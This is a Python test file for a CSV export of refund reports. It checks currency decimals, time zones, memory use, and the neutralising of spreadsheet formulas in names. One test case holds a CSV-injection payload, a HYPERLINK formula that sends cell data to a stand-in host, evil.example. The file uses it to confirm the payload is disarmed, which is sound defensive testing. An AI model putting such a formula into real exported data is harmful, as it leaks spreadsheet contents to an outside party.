"""The report as CSV: a strict reader reads it, and a spreadsheet runs nothing in it."""

import csv
import io
import re
import tracemalloc
from collections.abc import Iterator
from dataclasses import replace
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from babel.numbers import get_currency_precision
from hypothesis import given
from hypothesis import strategies as st

from functions.export_report.write_export import csv_chunks
from shared.domain.export import DecimalMark
from shared.domain.money import SUPPORTED_CURRENCIES, minor_unit_digits
from shared.domain.record_source import RecordSource
from shared.domain.refund import PaidBy, Resolution
from shared.domain.report import ReportRow
from shared.views import spreadsheet
from shared.views.columns import csv_header, csv_lines
from shared.views.report_columns import COLUMNS

CHICAGO = ZoneInfo("America/Chicago")

ROW = ReportRow(
    place="2026-11-01T06:30:00.123Z#7",
    refund_id="re_1",
    order_id="ord_1",
    type="partial",
    reason="wrong_print",
    status="settled",
    currency="usd",
    refunded_amount=2550,
    rev_share_adjustment_amount=383,
    stripe_fee_retained_amount=82,
    net_deduction_amount=-2167,
    tax_refunded_amount=0,
    processed_by="kim",
    processed_by_name="Kim Lee",
    stripe_refund_id="re_stripe",
    source=RecordSource.API,
    settled_at="2026-11-01T06:30:00.123Z",
    parent_name="Dana Parent",
    subject_names=("Kai", "Bo"),
    original_amount=10000,
    charge_id="ch_1",
    placed_at="2026-10-14T19:04:00+02:00",
    balance_transaction_id="txn_1",
    tax_parts='[["US-IL","6.25",163],["US-IL Cook","1.75",-1046]]',
)


def read(text: str) -> list[dict[str, str]]:
    """Read a file by RFC 4180; anything else is an error."""
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def written(*rows: ReportRow, zone: ZoneInfo = CHICAGO) -> list[dict[str, str]]:
    text = csv_header(COLUMNS) + csv_lines(COLUMNS, rows, zone)
    return read(text.removeprefix("\ufeff"))


def test_a_file_begins_with_the_mark_that_excel_looks_for_and_ends_its_lines_with_crlf() -> None:
    content = (csv_header(COLUMNS) + csv_lines(COLUMNS, [ROW], CHICAGO)).encode()
    assert content.startswith(b"\xef\xbb\xbfsettled_at,")
    assert content.count(b"\r\n") == content.count(b"\n") == 2
    assert content.endswith(b"\r\n")


def test_a_row_is_in_major_units_and_in_the_studio_s_time() -> None:
    (row,) = written(ROW)
    assert row == {
        "settled_at": "2026-11-01 01:30:00",
        "requested_at": "",
        "failed_at": "",
        "order_id": "ord_1",
        "parent_name": "Dana Parent",
        "subject_names": "Kai; Bo",
        "currency": "usd",
        "original_amount": "100.00",
        "refunded_amount": "25.50",
        "rev_share_adjustment_amount": "3.83",
        "stripe_fee_retained_amount": "0.82",
        "net_deduction_amount": "-21.67",
        "tax_refunded_amount": "0.00",
        "processed_by_name": "Kim Lee",
        "processed_by": "kim",
        "type": "partial",
        "reason": "wrong_print",
        "status": "settled",
        "source": "api",
        "refund_id": "re_1",
        "stripe_refund_id": "re_stripe",
        "dispute_id": "",
        "dispute_fee_amount": "0.00",
        "pending_reason": "",
        "failure_reason": "",
        "resolution": "",
        "pending_detail": "",
        "failure_detail": "",
        "account_id": "",
        "charge_id": "ch_1",
        "payment_intent_id": "",
        "balance_transaction_id": "txn_1",
        "failure_balance_transaction_id": "",
        "placed_at": "2026-10-14 12:04:00",
        "settled_at_utc": "2026-11-01T06:30:00.123Z",
        "requested_at_utc": "",
        "failed_at_utc": "",
        "placed_at_utc": "2026-10-14T17:04:00.000Z",
        "utc_offset": "UTC-05:00",
        "tax_parts": "US-IL 6.25% 1.63; US-IL Cook 1.75% -10.46",
    }


def test_where_people_write_a_decimal_comma_semicolons_separate_the_columns() -> None:
    text = csv_header(COLUMNS, DecimalMark.COMMA)
    text += csv_lines(COLUMNS, [ROW], CHICAGO, DecimalMark.COMMA)
    lines = io.StringIO(text.removeprefix("\ufeff"), newline="")
    (row,) = csv.DictReader(lines, delimiter=";", strict=True)
    assert (row["refunded_amount"], row["net_deduction_amount"]) == ("25,50", "-21,67")
    assert row["subject_names"] == "Kai; Bo"
    assert row["tax_parts"] == "US-IL 6,25% 1,63; US-IL Cook 1,75% -10,46"
    (point,) = written(ROW)
    assert {name: row[name] for name in ("order_id", "settled_at")} == {
        name: point[name] for name in ("order_id", "settled_at")
    }


@pytest.mark.parametrize(
    ("at", "zone", "offset"),
    [
        ("2026-11-01T06:30:00.000Z", "America/Chicago", "UTC-05:00"),  # before the clocks change
        ("2026-11-01T07:30:00.000Z", "America/Chicago", "UTC-06:00"),  # the same hour once more
        ("2026-07-01T00:00:00.000Z", "Asia/Kolkata", "UTC+05:30"),
        ("2026-07-01T00:00:00.000Z", "UTC", "UTC+00:00"),
    ],
)
def test_the_offset_tells_an_hour_that_comes_twice_apart(at: str, zone: str, offset: str) -> None:
    (row,) = written(replace(ROW, place=f"{at}#7"), zone=ZoneInfo(zone))
    assert row["utc_offset"] == offset


def test_a_row_whose_order_was_erased_has_empty_cells() -> None:
    (row,) = written(replace(ROW, parent_name=None, subject_names=(), original_amount=None))
    assert (row["parent_name"], row["subject_names"], row["original_amount"]) == ("", "", "")


def test_every_field_of_a_row_except_its_place_is_in_the_file() -> None:
    names = {column.name for column in COLUMNS}
    derived = {f"{name}_utc" for name in names if f"{name}_utc" in names} | {"utc_offset"}
    assert (names - derived) | {"place"} == set(ReportRow.__dataclass_fields__)


@pytest.mark.parametrize(
    ("amount", "currency", "major"),
    [
        (1050, "usd", "10.50"),
        (-5, "usd", "-0.05"),
        (0, "usd", "0.00"),
        (1050, "jpy", "1050"),
        (99_999_999, "eur", "999999.99"),
        (123_456, "rsd", "1234.56"),
    ],
)
def test_amounts_have_the_currency_s_decimals(amount: int, currency: str, major: str) -> None:
    assert spreadsheet.major_units(amount, currency) == major


@given(st.integers(-(10**15), 10**15), st.sampled_from(sorted(SUPPORTED_CURRENCIES)))
def test_an_amount_keeps_every_minor_unit(amount: int, currency: str) -> None:
    text = spreadsheet.major_units(amount, currency)
    assert re.fullmatch(r"-?\d+(\.\d\d)?", text)
    assert Decimal(text) * 10 ** minor_unit_digits(currency) == amount


def test_amounts_have_stripe_s_decimals_and_not_unicode_s() -> None:
    # If this changes, Babel could be asked instead.
    other = {
        each
        for each in SUPPORTED_CURRENCIES
        if get_currency_precision(each.upper()) != minor_unit_digits(each)
    }
    assert other == {"all", "lak", "lbp", "mmk", "rsd", "sos", "std", "yer"}


# Characters that a writer may quote wrongly, or a spreadsheet may run as a formula.
TEMPTING = "=+-@'\";,|\t\r\n \\ab1é日＝＠"  # noqa: RUF001  # full-width on purpose
NASTY = st.text(st.sampled_from(TEMPTING)) | st.text(st.characters(codec="utf-8"))
FORMULA = "=+-@＝＋－＠\t\r\n"  # noqa: RUF001  # the full-width forms too


@given(NASTY, NASTY)
def test_any_name_comes_back_except_for_the_apostrophe_that_disarms_it(name: str, by: str) -> None:
    (row,) = written(replace(ROW, parent_name=name, processed_by=by))
    assert row["parent_name"].replace("'", "") == name.replace("'", "")
    assert row["processed_by"].replace("'", "") == by.replace("'", "")
    assert row["refund_id"] == "re_1"


@given(NASTY)
def test_no_cell_begins_a_formula_whatever_the_separator(name: str) -> None:
    (row,) = written(replace(ROW, parent_name=name, subject_names=(name, name)))
    for cell in (row["parent_name"], row["subject_names"]):
        for piece in re.split(r"[;,|\t]", cell):
            assert not piece.startswith(tuple(FORMULA)), cell
            assert not piece.strip().startswith(tuple("=+-@")), cell


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        ('=HYPERLINK("http://evil.example?"&A1)', '\'=HYPERLINK("http://evil.example?"&A1)'),
        ("+1 Dana", "'+1 Dana"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t'=1"),
        ("Dana;=1+1", "Dana;'=1+1"),
        ("  =1+1", "'  =1+1"),
        ("O'Hara-Smith", "O'Hara-Smith"),
        ("a=b", "a=b"),
    ],
)
def test_a_formula_in_a_name_is_disarmed_and_other_names_stay(name: str, cell: str) -> None:
    assert spreadsheet.disarmed(name) == cell
    assert written(replace(ROW, parent_name=name))[0]["parent_name"] == cell


def test_amounts_are_not_disarmed() -> None:
    assert written(ROW)[0]["net_deduction_amount"] == "-21.67"


@pytest.mark.parametrize(
    ("zone", "local"),
    [
        ("Europe/Oslo", "2026-11-01 07:30:00"),
        ("Asia/Tokyo", "2026-11-01 15:30:00"),
        ("UTC", "2026-11-01 06:30:00"),
    ],
)
def test_times_are_in_the_studio_s_time_zone(zone: str, local: str) -> None:
    assert written(ROW, zone=ZoneInfo(zone))[0]["settled_at"] == local


def many(count: int) -> Iterator[ReportRow]:
    for number in range(count):
        yield replace(ROW, refund_id=f"re_{number}")


def peak_of(count: int) -> tuple[int, int]:
    """Return the size of a file of so many rows, and the peak memory of writing it."""
    tracemalloc.start()
    try:
        size = sum(len(chunk) for chunk in csv_chunks(COLUMNS, many(count), CHICAGO))
        return size, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.slow
def test_a_file_of_five_times_the_rows_takes_no_more_memory() -> None:
    peak_of(100)  # what is made once and kept
    small, at_first = peak_of(2_000)
    large, later = peak_of(10_000)
    assert large > 4.8 * small
    assert later < 1.1 * at_first


def test_a_failed_refund_says_why_and_how_the_parent_was_paid() -> None:
    paid = Resolution(PaidBy.CHECK, "no. 1042", "2026-11-03T00:00:00.000Z", "kim")
    (row,) = written(replace(ROW, failure_reason="lost_or_stolen_card", resolution=paid))
    assert (row["failure_reason"], row["resolution"]) == ("lost_or_stolen_card", "check no. 1042")
